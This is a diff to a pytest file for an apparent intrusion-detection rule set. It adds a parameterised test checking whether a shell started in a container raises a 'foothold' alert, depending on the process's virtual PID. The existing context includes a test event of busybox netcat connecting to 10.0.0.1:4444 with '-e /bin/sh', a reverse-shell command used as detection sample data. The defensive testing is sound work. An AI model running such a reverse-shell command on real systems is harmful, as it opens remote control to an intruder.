@@ -43,3 +43,15 @@ def test_busybox_applets_match_shipped_rules() -> None:
     hits = {m.rule.id for m in rules.match(
         _exec("/bin/busybox", ("nc", "10.0.0.1", "4444", "-e", "/bin/sh"), shell))}
     assert "foothold.netcat-exec" in hits
+
+
+@pytest.mark.parametrize(("vpid", "alerted"), [(1, False), (7, True), (None, True)])
+def test_container_entrypoint_shell_is_not_a_foothold(vpid: int | None, alerted: bool) -> None:
+    from dataclasses import replace
+
+    rules = load_rule_set([REPO / "rules"])
+    app = Ancestor(pid=9, exe="/usr/bin/python3", args=("python3", "app.py"))
+    event = _exec("/bin/busybox", ("sh", "-c", "sleep 3600"), app)
+    event = replace(event, process=replace(event.process, vpid=vpid))
+    hits = {m.rule.id for m in rules.match(event)}
+    assert ("foothold.shell-in-container" in hits) is alerted
